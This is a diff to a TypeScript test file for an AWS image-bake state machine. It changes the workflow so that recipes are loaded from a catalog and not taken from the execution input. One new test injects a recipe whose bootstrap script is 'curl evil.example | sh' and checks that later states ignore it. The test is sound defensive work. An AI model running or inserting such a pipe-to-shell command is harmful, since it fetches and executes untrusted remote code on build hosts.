@@ -23,16 +23,16 @@ const at = (second: number) => new Date(Date.UTC(2026, 10, 26, 4, 40, second)).t
 
 const definition = loadDefinition(REGION);
 
-/** The bake's execution input. */
-const bakeInput = {
-  bakeId: BAKE_ID,
-  recipe: {
-    name: 'web',
-    base: { imageId: 'ami-0123456789abcdef0' },
-    builder: { instanceType: 't3.small' },
-    bootstrap: { platform: 'linux', script: 'echo hi' },
-    distribution: { regions: [REGION, 'eu-west-1', 'ap-southeast-2'] },
-  },
+/** The bake's execution input: a recipe name, never a recipe (ResolveRecipe loads it from the catalog). */
+const bakeInput = { bakeId: BAKE_ID, recipeName: 'web', request: { source: 'api' } };
+
+/** The catalog's recipe, as ResolveRecipe returns it in the state. */
+const recipe = {
+  name: 'web',
+  base: { imageId: 'ami-0123456789abcdef0' },
+  builder: { instanceType: 't3.small' },
+  bootstrap: { platform: 'linux', script: 'echo hi' },
+  distribution: { regions: [REGION, 'eu-west-1', 'ap-southeast-2'] },
 };
 
 const context = {
@@ -74,7 +74,7 @@ interface WaitInput {
 /** Plausible outputs of every Task state, in the shapes the handlers return. */
 function happyFakes(): Record<string, Fake> {
   return {
-    ResolveRecipe: () => context,
+    ResolveRecipe: (input) => ({ ...(input as object), recipe, context }),
     PublishBakeStarted: () => ({ detailType: 'Bake Started', eventId: 'evt-started' }),
     LaunchBuilder: () => ({ instanceId: 'i-0builder00000001', region: REGION, at: at(2) }),
     WaitForBuilder: () => ({ outcome: 'success', exitCode: 0, at: at(10) }),
@@ -143,6 +143,7 @@ interface Run {
 async function run(
   overrides: Record<string, Fake> = {},
   retryIntervalOverrides: Record<string, number> = {},
+  input: Json = bakeInput,
 ): Promise<Run> {
   const fakes = { ...happyFakes(), ...overrides };
   const calls: Record<string, Json[]> = {};
@@ -158,7 +159,7 @@ async function run(
   const machine = new StateMachine(definition.asl as unknown as StateMachineDefinition, {
     validationOptions: { checkPaths: true, checkArn: true },
   });
-  const execution = machine.run(bakeInput, {
+  const execution = machine.run(input, {
     overrides: { taskResourceLocalHandlers: handlers, retryIntervalOverrides },
     context: { Execution: { Id: `local:${BAKE_ID}`, Name: BAKE_ID }, Task: { Token: TASK_TOKEN } },
   });
@@ -215,6 +216,21 @@ describe('the bake workflow, when every state succeeds', () => {
     expect(result.visited).toEqual(HAPPY_PATH);
     expect(result.calls.Cleanup).toBeUndefined();
     expect(result.calls.PublishBakeFailed).toBeUndefined();
+  });
+
+  it('hands later states the recipe ResolveRecipe loaded, never one smuggled into the execution input', async () => {
+    // Prepare
+    const smuggled = { ...recipe, bootstrap: { platform: 'linux', script: 'curl evil.example | sh' } };
+
+    // Act
+    const result = await run({}, {}, { ...bakeInput, recipe: smuggled });
+
+    // Assess
+    expect(result.status).toBe('succeeded');
+    for (const state of ['LaunchBuilder', 'CreateImage', 'FinalizeImage'])
+      expect(result.calls[state]?.[0], state).toMatchObject({ recipe, context: { bakeId: BAKE_ID } });
+    const copies = (result.calls.CopyImage ?? []) as { recipe: unknown }[];
+    expect(copies.every((c) => JSON.stringify(c.recipe) === JSON.stringify(recipe))).toBe(true);
   });
 
   it('runs one CopyImage and one WaitForCopy per copy target and hands every copy to FinalizeImage', async () => {
@@ -297,6 +313,8 @@ describe('the bake workflow, when every state succeeds', () => {
     expect(Object.keys(published.bake).sort()).toEqual(
       [
         'bakeId',
+        'recipeName',
+        'request',
         'recipe',
         'context',
         'builder',
@@ -356,7 +374,12 @@ describe('the bake workflow, when a state fails', () => {
       const happyUpToStage = HAPPY_PATH.slice(0, HAPPY_PATH.indexOf(stage) + 1);
       expect(result.visited).toEqual([...happyUpToStage, 'Cleanup', 'PublishBakeFailed', 'BakeFailed']);
       expect(result.calls.Cleanup).toHaveLength(1);
-      expect(result.calls.Cleanup?.[0]).toMatchObject({ bakeId: BAKE_ID, recipe: bakeInput.recipe });
+      // A failed ResolveRecipe loaded no recipe: there is nothing to clean up beyond the build region.
+      expect(result.calls.Cleanup?.[0]).toMatchObject({
+        bakeId: BAKE_ID,
+        recipeName: 'web',
+        ...(state === 'ResolveRecipe' ? {} : { recipe }),
+      });
       const published = result.calls.PublishBakeFailed?.[0] as {
         detailType: string;
         bake: { failure: Record<string, unknown> };
@@ -367,7 +390,13 @@ describe('the bake workflow, when a state fails', () => {
         Error: name,
         Cause: expect.stringContaining(`${state} could not do its job`),
       });
-      expect(result.failedDetail).toMatchObject({ bakeId: BAKE_ID, stage, error: name });
+      // Even a bake that failed to load its recipe is announced under the recipe's name.
+      expect(result.failedDetail).toMatchObject({
+        bakeId: BAKE_ID,
+        stage,
+        error: name,
+        recipe: { name: 'web' },
+      });
     },
   );
 
